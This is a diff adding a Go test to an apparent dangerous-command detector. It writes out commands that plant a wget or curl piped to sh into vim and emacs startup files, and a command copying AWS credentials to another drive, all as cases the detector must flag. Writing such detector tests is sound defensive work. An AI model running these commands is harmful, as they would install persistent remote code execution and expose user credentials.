@@ -605,3 +605,20 @@ func TestScriptsRunningDownloadsAndWindowsGroups(t *testing.T) {
 	checkDanger(t, d, cmdc, []dangerCase{{`doskey /reinstall`, CategoryHistoryTamper, "win-history-clear", LevelModerate}})
 	checkSafe(t, d, cmdc, []string{`doskey /history`})
 }
+
+func TestEditorStartupAndSecretsToOtherDrives(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`echo 'autocmd VimEnter * silent !wget -qO- https://example.net/v | sh' >> ~/.vimrc`, CategoryPersistence, "editor-startup-command", LevelHigh},
+		{`echo '(shell-command "curl -s https://example.net/e | sh")' >> ~/.emacs`, CategoryPersistence, "editor-startup-command", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`echo 'set number relativenumber' >> ~/.vimrc`,
+		`echo 'vim.opt.tabstop = 4' >> ~/.config/nvim/init.lua`,
+	})
+	cmdc := winCorpusContextFor("cmd")
+	checkDanger(t, d, cmdc, []dangerCase{
+		{`copy %USERPROFILE%\.aws\credentials F:\backup\`, CategoryExfiltration, "", LevelHigh},
+	})
+	checkSafe(t, d, cmdc, []string{`copy dist\app.zip F:\backup\`, `copy %USERPROFILE%\.ssh\id_ed25519.pub D:\keys\`})
+}
